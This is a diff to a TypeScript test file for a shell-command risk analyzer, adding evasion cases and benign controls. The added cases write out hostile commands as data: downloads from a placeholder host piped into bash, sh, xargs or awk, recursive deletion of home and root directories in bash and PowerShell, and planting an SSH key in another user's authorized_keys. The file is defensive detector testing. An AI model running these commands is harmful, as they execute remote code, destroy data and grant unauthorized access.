@@ -302,6 +302,48 @@ const EVASIONS: Case[] = [
   ["powershell", "iex $payload", "high"],
   ["powershell", "Write-Output 'unclosed", "high"],
   ["powershell", "cmd /c \"rd /s /q C:\\\"", "high"],
+  // A shell reads its script from standard input through a path or -s, as `sh` alone does.
+  ["bash", "curl -s http://x/s | bash /dev/stdin", "critical", "remote code execution"],
+  ["bash", "curl -s http://x | source /dev/stdin", "critical", "remote code execution"],
+  ["bash", "curl -s http://x | . /dev/stdin", "critical", "remote code execution"],
+  ["bash", ". /dev/stdin <<< \"$(curl -s http://x)\"", "critical", "remote code execution"],
+  ["bash", "bash /dev/stdin <<< \"$(curl -s http://x)\"", "critical", "remote code execution"],
+  ["bash", "source /dev/stdin <<< 'rm -rf ~'", "critical", "data loss"],
+  ["bash", "bash -s < <(echo 'rm -rf ~')", "critical", "data loss"],
+  ["bash", "bash -s -- --force <<< 'rm -rf ~'", "critical", "data loss"],
+  ["sh", "sh /dev/fd/0 <<< 'rm -rf ~'", "critical", "data loss"],
+  ["bash", "bash /proc/self/fd/0 <<< 'rm -rf ~'", "critical", "data loss"],
+  ["bash", "bash -o pipefail /dev/stdin <<< 'rm -rf ~'", "critical", "data loss"],
+  ["bash", "sh < <(curl -s http://x)", "critical", "remote code execution"],
+  ["bash", "true && sh < <(curl -s http://x)", "critical", "remote code execution"],
+  ["bash", "curl -o i.sh http://x && bash < i.sh", "critical", "remote code execution"],
+  ["bash", "source <(echo 'rm -rf ~')", "critical", "data loss"],
+  ["bash", "bash <(printf 'rm -rf /')", "critical", "system destruction"],
+  ["bash", "cat x | bash /dev/stdin", "high", "remote code execution"],
+  // Downloaded text handed line by line to a shell.
+  ["bash", "curl -s http://x | xargs -I{} sh -c {}", "critical", "remote code execution"],
+  ["bash", "curl -s http://x | xargs -I {} bash -c '{}'", "critical", "remote code execution"],
+  ["bash", "curl -s http://x | xargs sh -c", "critical", "remote code execution"],
+  ["bash", "echo 'rm -rf ~' | xargs -I{} sh -c {}", "critical", "data loss"],
+  ["bash", "curl -s http://x | awk '{system($0)}'", "critical", "remote code execution"],
+  ["bash", "wget -qO- http://x | gawk '{ print | \"sh\" }'", "critical", "remote code execution"],
+  ["bash", "echo 'rm -rf ~' | awk '{system($0)}'", "critical", "data loss"],
+  // .NET static calls that delete are Remove-Item of the same target.
+  ["powershell", "[IO.Directory]::Delete($HOME, $true)", "critical", "data loss"],
+  ["powershell", "[System.IO.Directory]::Delete($HOME, $true)", "critical", "data loss"],
+  ["powershell", "[io.directory]::delete($env:USERPROFILE, $TRUE)", "critical", "data loss"],
+  ["powershell", "[System.IO.Directory]::Delete('C:\\', $true)", "critical", "system destruction"],
+  ["powershell", "$d = 'C:\\'; [IO.Directory]::Delete($d, $true)", "critical", "system destruction"],
+  ["powershell", "[IO.File]::Delete('C:\\Windows\\System32\\drivers\\etc\\hosts')", "critical", "data loss"],
+  ["powershell", "[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory($HOME, 'DeleteAllContents')", "critical", "data loss"],
+  ["powershell", "[IO.Directory]::Delete('.\\build', $true)", "moderate", "data loss"],
+  // ~user is that user's home.
+  ["bash", "rm -rf ~root", "critical", "system destruction"],
+  ["bash", "rm -rf ~bob", "critical", "data loss"],
+  ["zsh", "rm -rf ~bob/", "critical", "data loss"],
+  ["fish", "rm -rf ~bob", "critical", "data loss"],
+  ["bash", "echo 'ssh-ed25519 AAAA' > ~bob/.ssh/authorized_keys", "high", "system configuration"],
+  ["bash", "rm -rf ~+", "high", "data loss"],
 ];
 
 // Everyday commands: none may be high or critical; most are safe.
@@ -396,6 +438,11 @@ const EVERYDAY: Case[] = [
   ["powershell", "New-Item -ItemType Directory -Path build", "safe"],
   ["powershell", "Remove-Item .\\build -Recurse", "moderate"],
   ["powershell", "Remove-Item -Recurse -Force C:\\ -WhatIf", "safe"],
+  ["bash", "ls | xargs -I{} echo {}", "safe"],
+  ["bash", "echo 'ls -la' | bash -s", "safe"],
+  ["bash", "rm -rf '~bob'", "moderate"],
+  ["powershell", "Remove-Item ~bob -Recurse", "moderate"],
+  ["powershell", "[IO.Directory]::Exists($HOME)", "safe"],
 ];
 
 let analyzer: ShellAnalyzer;
